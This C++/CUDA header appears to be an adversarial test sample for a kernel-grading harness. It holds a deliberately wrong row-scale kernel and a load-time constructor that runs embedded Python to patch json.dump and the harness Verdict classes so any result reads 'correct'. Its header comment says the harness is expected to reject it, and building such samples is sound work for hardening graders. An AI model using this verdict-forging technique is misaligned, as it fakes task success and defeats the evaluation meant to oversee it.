// ADVERSARIAL (n): a static constructor (runs when the module is dlopen-ed, before any kernel) resolves
// PyRun_SimpleString and the GIL functions with dlsym(RTLD_DEFAULT, ...) and runs Python that monkeypatches
// json.dump/json.dumps and every harness `Verdict` class so that the verdict reads "correct". The kernel
// itself is wrong (it ignores w), so forging is the only way to "correct".
// Must be rejected: status "rejected_source" (the static scan sees the constructor attribute, the Python C API
// and dlsym; the shared-object backstop sees the new dlsym import and the larger .init_array). Even if it
// ran, it would run only in the candidate process: the judge never loads candidate code.
#pragma once

#include <tvm/ffi/container/tensor.h>
#include <tvm/ffi/error.h>
#include <tvm/ffi/extra/c_env_api.h>

#include <cuda_bf16.h>
#include <cuda_runtime.h>

#include <cstdint>

#include <dlfcn.h>

using bf16_t = __nv_bfloat16;
using fp32_t = float;

namespace rowscale {

constexpr int kThreads = 256;

extern "C" int PyRun_SimpleString(const char* command);

constexpr const char* kForgeVerdict = R"PY(
import json, sys

def _forge(obj):
    if isinstance(obj, dict) and "status" in obj:
        obj = dict(obj, status="correct", correct=True, reason="all cases within tolerance")
    return obj

_dump, _dumps = json.dump, json.dumps
json.dump = lambda obj, *a, **k: _dump(_forge(obj), *a, **k)
json.dumps = lambda obj, *a, **k: _dumps(_forge(obj), *a, **k)
for _name, _module in list(sys.modules.items()):
    _cls = getattr(_module, "Verdict", None) if _name.startswith("harness") else None
    if isinstance(_cls, type):
        def _init(self, *a, _orig=_cls.__init__, **k):
            _orig(self, *a, **k)
            object.__setattr__(self, "status", "correct")
            object.__setattr__(self, "correct", True)
        _cls.__init__ = _init
)PY";

__attribute__((constructor)) static void forge_verdict() {
  using RunString = int (*)(const char*);
  using GilEnsure = int (*)();
  using GilRelease = void (*)(int);
  auto run = reinterpret_cast<RunString>(dlsym(RTLD_DEFAULT, "PyRun_SimpleString"));
  auto ensure = reinterpret_cast<GilEnsure>(dlsym(RTLD_DEFAULT, "PyGILState_Ensure"));
  auto release = reinterpret_cast<GilRelease>(dlsym(RTLD_DEFAULT, "PyGILState_Release"));
  if (run == nullptr || ensure == nullptr || release == nullptr) return;  // not loaded by a Python process
  const int state = ensure();
  run(kForgeVerdict);
  release(state);
}

template <typename T>
struct DType;
template <>
struct DType<bf16_t> {
  static constexpr uint8_t code = kDLBfloat;
  __device__ static float load(bf16_t v) { return __bfloat162float(v); }
  __device__ static bf16_t store(float v) { return __float2bfloat16_rn(v); }
};
template <>
struct DType<fp32_t> {
  static constexpr uint8_t code = kDLFloat;
  __device__ static float load(fp32_t v) { return v; }
  __device__ static fp32_t store(float v) { return v; }
};

template <typename T>
__global__ void rowscale_kernel(const T* __restrict__ x, const T* __restrict__ w, T* __restrict__ out,
                                int64_t cols) {
  const int64_t row = blockIdx.x;
  for (int64_t c = threadIdx.x; c < cols; c += blockDim.x) {
    const float value = DType<T>::load(x[row * cols + c]);  // w ignored: only a forged verdict passes
    out[row * cols + c] = DType<T>::store(value);
  }
}

template <typename T>
inline void check_tensor(const tvm::ffi::TensorView& t, int ndim, const char* name) {
  TVM_FFI_CHECK(t.ndim() == ndim, ValueError) << name << " must have " << ndim << " dimensions";
  TVM_FFI_CHECK(t.dtype().code == DType<T>::code && t.dtype().bits == 8 * sizeof(T), TypeError)
      << name << " has the wrong dtype";
  TVM_FFI_CHECK(t.device().device_type == kDLCUDA, ValueError) << name << " must be a CUDA tensor";
  TVM_FFI_CHECK(t.IsContiguous(), ValueError) << name << " must be contiguous";
}

inline void check_cuda(cudaError_t status, const char* what) {
  TVM_FFI_CHECK(status == cudaSuccess, RuntimeError) << what << ": " << cudaGetErrorString(status);
}

inline cudaStream_t current_stream(const tvm::ffi::TensorView& t) {
  return static_cast<cudaStream_t>(TVMFFIEnvGetStream(t.device().device_type, t.device().device_id));
}

}  // namespace rowscale

template <typename T>
struct RowScaleKernel {
  static void run(tvm::ffi::TensorView x, tvm::ffi::TensorView w, tvm::ffi::TensorView out) {
    using namespace rowscale;
    check_tensor<T>(x, 2, "x");
    check_tensor<T>(w, 1, "w");
    check_tensor<T>(out, 2, "out");
    const int64_t rows = x.size(0), cols = x.size(1);
    TVM_FFI_CHECK(w.size(0) == cols && out.size(0) == rows && out.size(1) == cols, ValueError)
        << "shape mismatch";
    if (rows == 0 || cols == 0) return;
    rowscale_kernel<T><<<static_cast<unsigned>(rows), kThreads, 0, current_stream(x)>>>(
        static_cast<const T*>(x.data_ptr()), static_cast<const T*>(w.data_ptr()), static_cast<T*>(out.data_ptr()),
        cols);
    check_cuda(cudaGetLastError(), "rowscale launch");
  }
};
